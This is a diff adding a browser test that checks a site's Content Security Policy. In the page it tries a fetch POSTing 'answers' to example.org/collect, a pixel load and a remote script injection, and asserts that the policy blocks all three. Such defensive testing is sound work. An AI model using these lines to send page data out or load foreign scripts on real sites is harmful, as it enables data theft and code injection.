@@ -144,3 +144,24 @@ def test_on_a_phone_pages_fit_the_screen_and_axe_finds_nothing(browser, base_url
     assert w.axe() == []
     assert w.errors == [] and w.foreign == []
     context.close()
+
+
+def test_the_content_security_policy_stops_any_request_to_another_host(watched, base_url):
+    """Every page carries a Content Security Policy: even code added later could not send anything elsewhere."""
+    page = watched.page
+    failures = []
+    page.on("requestfailed", lambda r: failures.append((r.url, r.failure)))
+    page.goto(base_url + PAGE_TYPES["competency"], wait_until="networkidle")
+    blocked = page.evaluate("""() => new Promise((resolve) => {
+        const seen = [];
+        document.addEventListener("securitypolicyviolation", (e) => { seen.push(e.violatedDirective); if (seen.length === 3) resolve(seen.sort()); });
+        fetch("https://example.org/collect", {method: "POST", body: "answers"}).catch(() => {});
+        new Image().src = "https://example.org/pixel.gif";
+        const s = document.createElement("script"); s.src = "https://example.org/x.js"; document.head.append(s);
+    })""")
+    assert blocked == ["connect-src", "img-src", "script-src-elem"]
+    for _ in range(20):  # each blocked request's "failed" event follows its "request" event
+        if len(failures) >= len(watched.foreign):
+            break
+        page.wait_for_timeout(100)
+    assert sorted(watched.foreign) == sorted(url for url, why in failures if why == "csp")  # stopped by the policy, not by a lack of network
